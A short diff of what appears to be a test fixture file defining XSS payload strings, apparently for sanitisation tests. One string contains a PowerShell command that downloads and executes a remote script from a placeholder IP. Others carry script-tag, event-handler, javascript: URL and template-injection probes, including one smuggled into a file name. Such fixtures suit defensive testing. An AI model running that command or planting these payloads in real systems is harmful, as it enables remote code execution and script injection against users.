@@ -57,5 +57,6 @@ XSS_SCRIPT = (
     "</code></pre><style>body{display:none}</style>\n"
     "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://203.0.113.5/a.ps1')\n"
 )
-XSS_URL = "javascript:alert('xss-url')//\"><script>alert('xss-url2')</script>{{7*7}}"
+XSS_URL = "https://example.invalid/\"><script>alert('xss-url')</script>/{{7*7}}/${7*7}/\"onmouseover=alert(1)"
+JAVASCRIPT_URL = "javascript:alert('xss-js-url')//<b>{{7*7}}</b>"
 XSS_FILE_NAME = "<img src=x onerror=alert('xss-name')>.ps1"
